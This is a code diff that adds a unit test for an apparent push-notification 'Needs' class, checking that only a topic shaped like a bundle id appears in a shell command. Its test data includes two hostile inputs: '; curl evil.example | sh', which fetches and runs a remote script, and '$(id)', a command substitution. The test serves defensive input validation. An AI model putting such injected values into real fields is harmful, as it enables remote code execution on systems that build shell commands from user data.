@@ -136,3 +136,10 @@ test('is limited to a hundred names each of gateways, platforms and topics', () 
   expect(needs.gateways[0]).toEqual({ connector: 'apns', profile: 'profile1', installations: 2 });
   expect(needs.users.all).toBe(200);
 });
+
+test('shows a topic in a command for the shell only if it has the form of a bundle id', () => {
+  const needs = new Needs();
+  for (const pgwTopic of ['com.example.app', '; curl evil.example | sh', '$(id)'])
+    needs.addInstallation(draftOf(new Map(Object.entries({ deviceType: 'ios', pgwTopic })), false));
+  expect(needs.topics).toEqual(['com.example.app']);
+});
